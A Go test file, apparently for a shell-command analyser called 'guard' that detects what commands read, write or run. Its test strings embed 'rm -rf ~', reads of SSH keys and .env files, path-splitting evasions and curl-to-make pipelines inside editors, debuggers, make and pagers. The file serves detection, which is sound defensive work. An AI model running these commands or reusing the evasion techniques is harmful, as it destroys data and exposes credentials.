package shell

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/guardhq/guard/internal/shell/catalogue"
	"github.com/guardhq/guard/internal/shell/effect"
	"github.com/guardhq/guard/internal/shell/word"
)

// TestWordsInWords: a word of an unknown program (or of a reader given an
// option its entry does not list) that holds blanks or shell characters has
// its paths touched; so have the text such a program reads on standard
// input and a file the command wrote with known text that it is handed.
// Data stays data.
func TestWordsInWords(t *testing.T) {
	tests := []struct {
		cmd     string
		touches []string // among the touches or the writes
		not     []string // neither touched nor written
	}{
		{cmd: `mytool --note 'then cp x ~/.bashrc' build`, touches: []string{"~/.bashrc"}},
		{cmd: `mytool "select readfile('/home/u/.ssh/id_rsa')"`, touches: []string{"/home/u/.ssh/id_rsa"}},
		{cmd: `vim -es -c 'w ~/.bashrc' notes.txt`, touches: []string{"~/.bashrc"}},
		{cmd: `grep --frobnicate=x foo ~/.bashrc`, touches: []string{"~/.bashrc"}},
		{cmd: `ed -s x <<< 'w ~/.bashrc'`, touches: []string{"~/.bashrc"}, not: []string{"w"}},
		{cmd: `printf 'w ~/.bashrc\n' | ed -s x`, touches: []string{"~/.bashrc"}},
		{cmd: `printf 'save ~/.bashrc\n' > c.txt && xmllint --shell x.xml < c.txt`, touches: []string{"~/.bashrc"}},
		{cmd: `printf 'include ~/.bashrc\n' > m.txt && tool m.txt`, touches: []string{"~/.bashrc"}},
		{cmd: `printf 'w ~/.bashrc\n' > s.ed && tool --script 's.ed x'`, touches: []string{"~/.bashrc"}},
		{cmd: `psql <<< "copy t from '/home/u/.ssh/id_rsa'"`, touches: []string{"/home/u/.ssh/id_rsa"}},
		{cmd: `tool <<< 'cat ~/.netrc'`, touches: []string{"~/.netrc"}},
		// Not: data, readers with their own options, input that is data,
		// patterns of names a program leaves alone.
		{cmd: `grep -n 'cp x ~/.bashrc' notes.txt`, not: []string{"~/.bashrc"}},
		{cmd: `git commit -m 'cp x ~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `git commit -F - <<< 'cp x ~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `printf 'see ~/.bashrc' > m.txt && git commit -F m.txt`, not: []string{"~/.bashrc"}},
		{cmd: `ssh host <<< 'cp x ~/.bashrc'`, touches: []string{"~/.bashrc"}},         // the remote shell runs it
		{cmd: `ssh host bash -s <<< 'cp x ~/.bashrc'`, touches: []string{"~/.bashrc"}}, // the same
		{cmd: `ssh host 'cat > n.txt' <<< 'see ~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `kubectl apply -f - <<< 'path: ~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `cat <<< 'cp x ~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `awk '{print $1}' <<< '~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `mapfile -t lines <<< '~/.bashrc'`, not: []string{"~/.bashrc"}},
		{cmd: `rsync -a --exclude .git --exclude=.git ./ host:/srv/`, not: []string{".git"}},
		{cmd: `npx eslint "src/**/*.{ts,tsx}"`, not: []string{"src/**/*."}},
	}
	for _, tt := range tests {
		a := Analyze(tt.cmd, Options{Home: "/home/u"})
		for _, p := range tt.touches {
			if !slices.Contains(a.Touches, p) && !slices.Contains(a.Writes, p) {
				t.Errorf("%q: touches %q, writes %q, want %q among them", tt.cmd, a.Touches, a.Writes, p)
			}
		}
		for _, p := range tt.not {
			if slices.Contains(a.Touches, p) || slices.Contains(a.Writes, p) {
				t.Errorf("%q: touches %q, writes %q; %q must be neither", tt.cmd, a.Touches, a.Writes, p)
			}
		}
	}
}

// TestCommandLanguages: what a program's own command language runs, and
// the recipes and scripts of a file the command wrote, are analysed as
// commands: the line is among the analysis's lines.
func TestCommandLanguages(t *testing.T) {
	tests := []struct {
		cmd  string
		line string // among the lines
	}{
		{`vim -es -c '!rm -rf ~' -c q`, "rm -rf ~"},
		{`vim -es '+silent !rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'r !rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'w !rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'set ff=unix | !rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'exe "!rm -rf ~"'`, "rm -rf ~"},
		{`vim -c 'call system("rm -rf ~")'`, "rm -rf ~"},
		{`vim -c 'g/x/!rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'autocmd VimEnter * !rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'terminal ++close rm -rf ~'`, "rm -rf ~"},
		{`vim -c 'py3 import os; os.system("rm -rf ~")'`, "rm -rf ~"},
		{`nvim --cmd '!rm -rf ~'`, "rm -rf ~"},
		{`ex -s x <<< '!rm -rf ~'`, "rm -rf ~"},
		{`printf '!rm -rf ~\n' > s.vim && vim -S s.vim`, "rm -rf ~"},
		{`sqlite3 :memory: '.shell rm -rf ~'`, "rm -rf ~"},
		{`sqlite3 :memory: '.sy rm -rf ~'`, "rm -rf ~"},
		{`sqlite3 x.db '.output |rm -rf ~'`, "rm -rf ~"},
		{`sqlite3 x.db -cmd '.system rm -rf ~'`, "rm -rf ~"},
		{`sqlite3 x.db <<< '.shell rm -rf ~'`, "rm -rf ~"},
		{`printf '.shell rm -rf ~\n' > i.sql && sqlite3 -init i.sql x.db`, "rm -rf ~"},
		{`gdb -batch -ex 'shell rm -rf ~'`, "rm -rf ~"},
		{`gdb -batch --eval-command='!rm -rf ~'`, "rm -rf ~"},
		{`gdb -batch -ex 'pipe info frame | rm -rf ~'`, "rm -rf ~"},
		{`gdb -batch <<< 'shell rm -rf ~'`, "rm -rf ~"},
		{`gdb --args rm -rf ~`, "rm -rf ~"},
		{`ed -s x <<< '!rm -rf ~'`, "rm -rf ~"},
		{`ed -s x <<< '1,$w !rm -rf ~'`, "rm -rf ~"},
		{`ed '!rm -rf ~'`, "rm -rf ~"},
		{"m4 <<< 'syscmd(`rm -rf ~'\")'", "rm -rf ~"},
		{`m4 <<< 'esyscmd(rm -rf ~)'`, "rm -rf ~"},
		{`compgen -C 'rm -rf ~' x`, "rm -rf ~"},
		{`complete -C 'rm -rf ~' ls`, "rm -rf ~"},
		{`mapfile -C 'rm -rf ~' -c 1 < x`, "rm -rf ~"},
		{`readarray -C 'rm -rf ~' arr < x`, "rm -rf ~"},
		{`bind -x '"\C-x": rm -rf ~'`, "rm -rf ~"},
		{`parallel ::: 'rm -rf ~'`, "rm -rf ~"},
		{`echo 'rm -rf ~' | parallel`, "rm -rf ~"},
		{`less '+!rm -rf ~' x`, "rm -rf ~"},
		{`less '+|a rm -rf ~' x`, "rm -rf ~"},
		{`ag --pager 'rm -rf ~' x`, "rm -rf ~"},
		{`ack --pager='rm -rf ~' x`, "rm -rf ~"},
		{`ugrep --pager='rm -rf ~' x`, "rm -rf ~"},
		{`ugrep --filter='pdf:pdftotext % -,txt:rm -rf ~' x`, "rm -rf ~"},
		{`bat --pager 'rm -rf ~' x`, "rm -rf ~"},
		{`ACK_PAGER='rm -rf ~' ack x`, "rm -rf ~"},
		{`BAT_PAGER='rm -rf ~' bat x`, "rm -rf ~"},
		{`ssh localhost 'rm -rf ~'`, "rm -rf ~"},
		{`ssh localhost < <(echo 'rm -rf ~')`, "rm -rf ~"},
		{`mytool --exec 'rm -rf ~'`, "rm -rf ~"},
		{`tool <<< 'rm -rf ~'`, "rm -rf ~"},
		{`make -f - <<< $'all:\n\trm -rf ~'`, "rm -rf ~"},
		{`make -f - <<< $'all: ; @rm -rf ~'`, "rm -rf ~"},
		{`make --eval=$'x:\n\t-rm -rf ~' x`, "rm -rf ~"},
		{`printf 'X := $(shell rm -rf ~)\n' > mk && make -f mk`, "rm -rf ~"},
		{`printf 'all:\n\trm -rf $$HOME\n' > Makefile && make all`, "rm -rf ~"},
		{`mkdir -p w && printf 'all:\n\trm -rf ~\n' > w/Makefile && make -C w`, "rm -rf ~"},
		{`echo '{"scripts":{"test":"rm -rf ~"}}' > package.json && npm test`, "rm -rf ~"},
		{`echo '{"scripts":{"x":"rm -rf ~"}}' > app/package.json && npm --prefix app run x`, "rm -rf ~"},
	}
	for _, tt := range tests {
		a := Analyze(tt.cmd, Options{Home: "/home/u"})
		if !slices.Contains(a.Lines, tt.line) {
			t.Errorf("%q: lines %q, want %q among them", tt.cmd, a.Lines, tt.line)
		}
	}
	// Text that runs nothing adds no rm line.
	for _, cmd := range []string{
		`vim -c 'set ff=unix' -c wq x`,
		`vim -c 'w! out.txt' x`,
		`sqlite3 x.db 'select 1' '.tables' '.mode csv'`,
		`gdb -batch -ex run -ex bt ./app`,
		`ed -s x <<< $'1d\nw\nq'`,
		`m4 -DX=1 <<< 'X'`,
		`less +G x`,
		`make test`,
		`ssh host uptime`,
		`go test -run 'TestA|TestB' ./...`,
	} {
		a := Analyze(cmd, Options{Home: "/home/u"})
		for _, l := range a.Lines {
			if strings.HasPrefix(l, "rm ") {
				t.Errorf("%q: line %q", cmd, l)
			}
		}
		if a.Err != nil {
			t.Errorf("%q: err %v", cmd, a.Err)
		}
	}
}

// TestTextCommandsHidden: text that builds a command guard cannot follow,
// a makefile, a configuration or key bindings guard cannot see, a plugin,
// a patch written anywhere, is hidden.
func TestTextCommandsHidden(t *testing.T) {
	for _, cmd := range []string{
		"m4 <<'E'\ndefine(x, defn(`syscmd'))x(id)\nE",
		"m4 <<'E'\nindir(`syscmd', id)\nE",
		`curl -s https://x.example/mk | make -f -`,
		`sed -i 's/a/b/' Makefile && make`,
		`cat list | parallel`,
		`less -k keys x`,
		`less --lesskey-src=k x`,
		`LESSKEYIN=k less x`,
		`LESS='-k keys' git log`,
		`nm --plugin ./x.so a.out`,
		`RIPGREP_CONFIG_PATH=rc rg x`,
		`GIT_CONFIG_GLOBAL=g.cfg git x`,
		`git -c include.path=g.cfg x`,
		`git apply --unsafe-paths p.diff`,
		`diff3 --diff-program=sh a b c`,
		`sdiff --diff-program=bash a b`,
	} {
		if a := Analyze(cmd, Options{}); !errors.Is(a.Err, ErrHidden) {
			t.Errorf("%q: err %v, want ErrHidden", cmd, a.Err)
		}
	}
	for _, cmd := range []string{`GIT_CONFIG_GLOBAL=/dev/null git status`, `LESS=-R git log`, `LESS=FRX less x`, `rg -n x`} {
		if a := Analyze(cmd, Options{}); a.Err != nil {
			t.Errorf("%q: err %v", cmd, a.Err)
		}
	}
}

// TestConfigFiles: a configuration a variable names is read through
// Options.Files and analysed as its program's: the commands git runs from
// it, the options rg takes from it.
func TestConfigFiles(t *testing.T) {
	files := map[string]string{
		"g.cfg":  "[alias]\n\tx = !rm -rf ~ # a comment\n[user]\n\tname = A B\n",
		"f.cfg":  "[core]\n\tfsmonitor = \"rm -rf ~\"\n",
		"i.cfg":  "[include]\n\tpath = other.cfg\n",
		"ok.cfg": "[user]\n\tname = x\n[alias]\n\tst = status\n",
		"rc":     "# rg options\n--pre=./p.sh\n--smart-case\n",
		"ackrc":  "--pager=rm -rf ~\n",
	}
	for _, tc := range []struct {
		cmd, line string
		hidden    bool
	}{
		{cmd: "GIT_CONFIG_GLOBAL=g.cfg git x", line: "rm -rf ~"},
		{cmd: "export GIT_CONFIG_SYSTEM=f.cfg; git status", line: "rm -rf ~", hidden: true}, // rm handed git's words (gitHanded)
		{cmd: "GIT_CONFIG_GLOBAL=i.cfg git status", hidden: true},
		{cmd: "GIT_CONFIG_GLOBAL=ok.cfg git st"},
		{cmd: "ACKRC=ackrc ack x", line: "rm -rf ~"},
		{cmd: "RIPGREP_CONFIG_PATH=rc rg x", line: "rg --pre=./p.sh --smart-case"},
	} {
		a, _ := analyzeWith(tc.cmd, files)
		if tc.line != "" && !slices.Contains(a.Lines, tc.line) {
			t.Errorf("%q: lines %q, want %q", tc.cmd, a.Lines, tc.line)
		}
		if hidden := errors.Is(a.Err, ErrHidden); hidden != tc.hidden {
			t.Errorf("%q: err %v, hidden want %v", tc.cmd, a.Err, tc.hidden)
		}
	}
}

// TestGitFiles: REV:PATH reads PATH; git apply writes the files its patch
// names, or touches its directory when the patch is not known.
func TestGitFiles(t *testing.T) {
	patch := "diff --git a/src/x.go b/src/x.go\n--- a/src/x.go\n+++ b/src/x.go\n@@ -1 +1 @@\n-a\n+b\n" +
		"diff --git a/old b/new\nrename from old\nrename to ../.bashrc\n"
	files := map[string]string{"p.diff": patch}
	for _, tc := range []struct {
		cmd                    string
		reads, writes, touches []string
	}{
		{cmd: "git show HEAD:../.ssh/id_rsa", reads: []string{"../.ssh/id_rsa"}},
		{cmd: "git -C sub cat-file -p main:.env", reads: []string{"sub/.env"}},
		{cmd: "git show :.env", reads: []string{".env", "../.env"}},
		{cmd: "git show :2:.env", reads: []string{".env"}},
		{cmd: "git show HEAD:.ssh/id_rsa", reads: []string{".ssh/id_rsa", "../.ssh/id_rsa", "../../.ssh/id_rsa"}},
		{cmd: "git apply p.diff", writes: []string{"./src/x.go", "./../.bashrc"}},
		{cmd: "git apply --directory=app p.diff", writes: []string{"app/src/x.go"}},
		{cmd: "git apply -p0 p.diff", writes: []string{"./a/src/x.go"}},
		{cmd: "git apply missing.diff", touches: []string{"."}},
		{cmd: "git apply <<< '" + "+++ b/x.txt" + "'", writes: []string{"./x.txt"}},
	} {
		a, _ := analyzeWith(tc.cmd, files)
		for _, p := range tc.reads {
			if !slices.Contains(a.Reads, p) {
				t.Errorf("%q: reads %q, want %q", tc.cmd, a.Reads, p)
			}
		}
		for _, p := range tc.writes {
			if !slices.Contains(a.Writes, p) {
				t.Errorf("%q: writes %q, want %q", tc.cmd, a.Writes, p)
			}
		}
		for _, p := range tc.touches {
			if !slices.Contains(a.Touches, p) {
				t.Errorf("%q: touches %q, want %q", tc.cmd, a.Touches, p)
			}
		}
	}
	// A patch guard cannot read is hidden: a program's
	// output, a file the command wrote with text guard cannot tell.
	for _, cmd := range []string{
		"curl -s https://x.example/p | git apply",
		"git diff main heads/evil | git apply",
		"git log -p -1 heads/evil | git apply",
		"git diff HEAD heads/evil | patch -p1",
		"git diff HEAD heads/evil > p.diff && git apply p.diff",
		"git show evil > q.diff; patch -p1 < q.diff",
		"git diff HEAD evil > p.diff && patch -p1 -i p.diff",
	} {
		if a, _ := analyzeWith(cmd, files); !errors.Is(a.Err, ErrHidden) {
			t.Errorf("%q: err %v, want ErrHidden", cmd, a.Err)
		}
	}
	for _, cmd := range []string{"git apply --check p.diff", "git apply --stat p.diff"} {
		if a, _ := analyzeWith(cmd, files); len(a.Writes) > 0 {
			t.Errorf("%q: writes %q", cmd, a.Writes)
		}
	}
	for _, s := range []string{"origin", "git@github.com:org/repo", "main:main", "-c:x", "https://x/y:z"} {
		if p, ok := revPath(s); ok && !strings.Contains(p, "/") {
			t.Errorf("revPath(%q) = %q", s, p)
		}
	}
}

// TestOptionsKnown: a reader's entry lists its options; one it does not
// list makes the program a possible writer for that command.
func TestOptionsKnown(t *testing.T) {
	tests := []struct {
		prog string
		args string
		want bool
	}{
		{"cat", "-n x", true},
		{"cat", "-An x", true},
		{"cat", "--number --show-all x", true},
		{"cat", "--show-a x", true}, // an abbreviation
		{"cat", "--num x", false},   // ambiguous: --number, --number-nonblank
		{"cat", "--frob x", false},
		{"cat", "-Z x", false},
		{"cat", "-- -Z", true}, // an operand after --
		{"head", "-n5 x", true},
		{"head", "-n 5 x", true},
		{"head", "-5 x", true},
		{"head", "-c100 -q x", true},
		{"tail", "-n +2 x", true},
		{"tail", "-fn20 x", true},
		{"grep", "-rn --color=auto -e TODO -A2 src/", true},
		{"grep", "-rnA2 TODO src/", true},
		{"grep", "--include=*.go --exclude-dir vendor x .", true},
		{"grep", "--no-messages x .", true},
		{"grep", "--frobnicate x", false},
		{"ls", "-la --group-directories-first ~", true},
		{"ls", "-1 x", true},
		{"jq", "-r --arg name -x .a f.json", true}, // --arg takes two values
		{"jq", "--rawfile x f.txt -n .", true},
		{"sort", "-t, -k2 -n -o out.txt in.txt", true},
		{"sort", "-T /tmp x", true},
		{"sort", "--compress-program=gzip x", true},
		{"less", "-R +G x", true},
		{"less", "--lesskey-src=k x", true}, // known, and hides
		{"less", "--frob x", false},
		{"rg", "-n --hidden -g !.git TODO", true},
		{"rg", "--pre=./p.sh x", true},
		{"rg", "--no-hidden x", true},
		{"rg", "--no-frob x", false},
		{"ugrep", "--pager=x --save-config y", true},
		{"xmllint", "-format --noout x.xml", true},
		{"xmllint", "--shell x.xml", false},
		{"xmllint", "-shell x.xml", false},
		{"diff", "-u3 a b", true},
		{"diff", "-U 3 --label a a b", true},
		{"diff3", "--diff-program=x a b c", true},
		{"pr", "-e8 -n x", true}, // optional values joined to the letter
		{"zstdcat", "-o out x.zst", false},
		{"zstdcat", "--rm x.zst", false},
	}
	for _, tt := range tests {
		p := catalogue.ProgramNamed(tt.prog)
		if p == nil {
			t.Fatalf("%s: not catalogued", tt.prog)
		}
		var args []word.Word
		for _, f := range strings.Fields(tt.args) {
			args = append(args, word.Word{Text: f, Known: true})
		}
		if got := p.Knows(args); got != tt.want {
			t.Errorf("%s %s: knows = %v, want %v", tt.prog, tt.args, got, tt.want)
		}
	}
	// Every reader's entry lists its options.
	for _, p := range catalogue.Catalogue {
		if p.Access == catalogue.ReadsOnly && p.Short == "" && p.Long == "" {
			t.Errorf("%s: a reader without the options it takes", p.Name)
		}
	}
}

// TestSplitText: text that is not shell splits at blanks, quotes,
// parentheses and operators, and at commas and brackets outside a brace
// pattern.
func TestSplitText(t *testing.T) {
	tests := []struct {
		text string
		want []string
	}{
		{`select readfile('/x/y')`, []string{"select", "readfile", "/x/y"}},
		{`a(b, "c d")`, []string{"a", "b", "c", "d"}},
		{`syscmd([cp x ~/.bashrc])`, []string{"syscmd", "cp", "x", "~/.bashrc"}},
		{`a,~/.bashrc`, []string{"a", "~/.bashrc"}},
		{`src/**/*.{ts,tsx} x`, []string{"src/**/*.{ts,tsx}", "x"}},
	}
	for _, tt := range tests {
		if got := splitText(tt.text); !slices.Equal(got, tt.want) {
			t.Errorf("splitText(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
	// A text naming too many paths is not checked whole.
	var b strings.Builder
	for i := range maxTextPaths + 1 {
		b.WriteString(" ./f" + strings.Repeat("x", i%7) + string(rune('a'+i%26)) + strings.Repeat("y", i/26))
	}
	a := Analyze("tool <<< '"+b.String()+"'", Options{})
	if !errors.Is(a.Err, ErrHidden) {
		t.Errorf("%d paths: err %v, want ErrHidden", maxTextPaths+1, a.Err)
	}
	// A long text handed to a tool is no command beyond guard's limits.
	long := "llm '" + strings.Repeat("word ", MaxWords+10) + "'"
	if a := Analyze(long, Options{}); a.Err != nil {
		t.Errorf("a long prompt: err %v", a.Err)
	}
}

// TestWrittenFilesFollowed: a file the command wrote with known text that
// a program's text names (vim's :source, gdb's source, m4's include,
// make's include) brings its commands.
func TestWrittenFilesFollowed(t *testing.T) {
	for _, cmd := range []string{
		`printf '!rm -rf ~\n' > x.vim && vim -c 'so x.vim'`,
		`printf 'shell rm -rf ~\n' > g.gdb && gdb -batch -ex 'source g.gdb'`,
		"printf 'syscmd(rm -rf ~)' > inc.m4 && m4 <<'E'\ninclude(`inc.m4')\nE",
		`printf 'x:\n\trm -rf ~\n' > a.mk && printf 'include a.mk\n' > Makefile && make x`,
		`mapfile -C'rm -rf ~' -c1 arr < x`,
		`mapfile -tC 'rm -rf ~' arr < x`,
		`compgen -W 'a b' -C 'rm -rf ~' x`,
		`bind -x'"\C-x": rm -rf ~'`,
		`printf 'rm -rf ~\n' > c.txt && parallel :::: c.txt`,
		`printf '.shell rm -rf ~\n' > ~/.sqliterc && sqlite3 x.db 'select 1'`,
		`printf 'shell rm -rf ~\n' > .gdbinit && gdb -batch ./app`,
	} {
		a := Analyze(cmd, Options{Home: "/home/u"})
		if !slices.Contains(a.Lines, "rm -rf ~") {
			t.Errorf("%q: lines %q, want rm -rf ~ among them", cmd, a.Lines)
		}
	}
	if a := Analyze(`printf 'shell rm -rf ~\n' > .gdbinit && gdb -nx -batch ./app`, Options{}); slices.Contains(a.Lines, "rm -rf ~") {
		t.Errorf("gdb -nx: lines %q", a.Lines)
	}
}

// TestFoundAndJoined: a bare name the command wrote as a file runs that
// file even off the PATH guard sees; a version manager's shim on the
// inherited PATH is not read; literals joined in interpreter code are one
// path.
func TestFoundAndJoined(t *testing.T) {
	files := map[string]string{"/home/u/.pyenv/shims/python3": "rm -rf ~\n", "/home/u/bin/tool": "rm -rf ~\n"}
	run := func(cmd string) *Analysis {
		f := &fakeSearcher{fakeFiles: fakeFiles{files: files}, path: "/home/u/.pyenv/shims:/home/u/bin:/usr/bin"}
		return analyze(cmd, Options{Home: "/home/u", Files: f})
	}
	if a := run("mkdir -p ~/.local/bin && printf 'rm -rf /' > ~/.local/bin/foo && foo"); !slices.Contains(a.Lines, "rm -rf /") {
		t.Errorf("written foo: lines %q", a.Lines)
	}
	if a := run("python3 -c 'print(1)'"); slices.Contains(a.Lines, "rm -rf ~") {
		t.Errorf("a pyenv shim was read: lines %q", a.Lines)
	}
	if a := run("tool"); !slices.Contains(a.Lines, "rm -rf ~") {
		t.Errorf("~/bin/tool not read: lines %q", a.Lines)
	}
	if a := run("PATH=/home/u/.pyenv/shims:$PATH python3 x"); !slices.Contains(a.Lines, "rm -rf ~") {
		t.Errorf("a PATH of the command's own is read whole: lines %q", a.Lines)
	}
	for _, tc := range []struct{ cmd, path string }{
		{`python3 -c "print(open('/home/u/.ss'+'h/id_rsa').read())"`, "/home/u/.ssh/id_rsa"},
		{`perl -e 'open(F, "/etc/pa" . "sswd")'`, "/etc/passwd"},
	} {
		if a := run(tc.cmd); !slices.Contains(a.Reads, tc.path) {
			t.Errorf("%s: reads %q, want %q", tc.cmd, a.Reads, tc.path)
		}
	}
}

// FuzzTextCommands: any text given to a program with a command language of
// its own (as an option, on standard input, as a makefile or package.json
// the command wrote), or read as words inside a word, is analysed without
// a panic, and the error is one the callers know.
func FuzzTextCommands(f *testing.F) {
	for _, s := range []string{"!rm -rf ~", "r !x", "exe \"!x\"", ".shell x", ".output |x", "shell x", "python\nimport os\nend",
		"| a | b", "1,$w !x", "syscmd(x)", "defn(`syscmd')", "all:\n\tx", "$(shell x", `{"scripts":{"a":"x"}}`, "g/a/", "+|", "'", "(", "/",
		"[alias]\n x = !y", "+++ b/x\n--- a/y", "{a,b}/[c]", "norm :e x\r", "au A B e x", "command! -nargs=1 X e x", "set mp=x\\ y",
		"call writefile(a, b)", "a\nx\n.", "redir! > x", "@a", "e ++ff=dos +1 x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		q := word.Quote(text)
		for _, cmd := range []string{
			"vim -c " + q + " x; vim +" + q + "; ex <<< " + q,
			"sqlite3 x.db " + q + "; gdb -ex " + q + "; less +" + q + "; ssh h " + q,
			"printf %s " + q + " > t && sqlite3 x <<< " + q + " && ed x < t && m4 t && gdb -x t && make -f t && vim -S t && git apply t",
			"printf %s " + q + " > package.json && npm test; mytool " + q + "; compgen -C " + q + "; bind -x " + q + "; parallel ::: " + q,
			"printf %s " + q + " > g && GIT_CONFIG_GLOBAL=g RIPGREP_CONFIG_PATH=g LESS=" + q + " git x",
		} {
			a := analyze(cmd, Options{Home: "/home/u"})
			var pe *ParseError
			if a.Err != nil && !errors.As(a.Err, &pe) && !errors.Is(a.Err, effect.ErrLimit) && !errors.Is(a.Err, ErrHidden) {
				t.Fatalf("error %T %v", a.Err, a.Err)
			}
			for _, list := range [][]string{a.Reads, a.Writes, a.Touches} {
				for _, p := range list {
					if p == "" {
						t.Fatal("empty path")
					}
				}
			}
		}
	})
}

// FuzzKnows: checking a reader's options never panics, whatever the words.
func FuzzKnows(f *testing.F) {
	for _, s := range []string{"-n5 x", "--num=3", "-", "--", "-:", "--no-", "-e", "--arg a", "-%", "--=", "-o"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, args string) {
		var ws []word.Word
		for _, a := range strings.Fields(args) {
			ws = append(ws, word.Word{Text: a, Known: true})
		}
		for i := range catalogue.Catalogue {
			catalogue.Catalogue[i].Knows(ws)
		}
	})
}

// FuzzPatchTargets: any patch text yields bounded, non-empty file names.
func FuzzPatchTargets(f *testing.F) {
	for _, s := range []string{"--- a/x\n+++ b/y", "diff --git a/x b/y\nrename to z", "+++ \"a b\"\t2024", "--- /dev/null", "+++ "} {
		f.Add(s, 1)
	}
	f.Fuzz(func(t *testing.T, text string, strip int) {
		out := patchTargets(text, strip%8)
		if len(out) > maxPatchTargets {
			t.Fatalf("%d targets", len(out))
		}
		for _, p := range out {
			if p == "" {
				t.Fatal("empty target")
			}
		}
	})
}

// FuzzGitSettings: any git configuration text parses without a panic into
// bounded settings.
func FuzzGitSettings(f *testing.F) {
	for _, s := range []string{"[alias]\n x = !y", "[core]\nfsmonitor = \"a\\\"b\" ; c", "[a \"b\"]\nc", "[", "=", "\\"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if out, _ := gitSettings(text); len(out) > maxGitSettings {
			t.Fatalf("%d settings", len(out))
		}
		splitText(text)
	})
}

func TestSqliteURI(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		ok       bool
	}{
		{"file:/h/.bash%72c", "/h/.bashrc", true},
		{"FILE:/h/.bashrc?mode=rwc", "/h/.bashrc", true},
		{"file://localhost/h/.bash%72c#x", "/h/.bashrc", true},
		{"file:///h/x%2", "/h/x%2", true},
		{"file:rel.db?mode=ro", "rel.db", true},
		{"/h/.bashrc", "", false},
		{"fil", "", false},
	} {
		if got, ok := sqliteURI(tc.in); got != tc.want || ok != tc.ok {
			t.Errorf("sqliteURI(%q) = %q, %v", tc.in, got, ok)
		}
	}
}

func TestSqliteUnescape(t *testing.T) {
	for in, want := range map[string]string{
		`/h/.bash\162c`: "/h/.bashrc",
		`/h/.bash\x72c`: "/h/.bashrc",
		`a\tb\\c\"d`:    "a\tb\\c\"d",
		`no escapes`:    "no escapes",
		`trailing\`:     `trailing\`,
		`\1011`:         "A1",
	} {
		if got := sqliteUnescape(in); got != want {
			t.Errorf("sqliteUnescape(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzSqliteNames: any dot-command argument decodes without panicking,
// and the name as written is always among those checked.
func FuzzSqliteNames(f *testing.F) {
	f.Add(`file://localhost/h/.bash%72c?x`)
	f.Add(`"/h/.bash\162c\x7"`)
	f.Fuzz(func(t *testing.T, s string) {
		if n := sqliteNames(s); len(n) == 0 || n[0] != s {
			t.Fatalf("sqliteNames(%q) = %q", s, n)
		}
	})
}
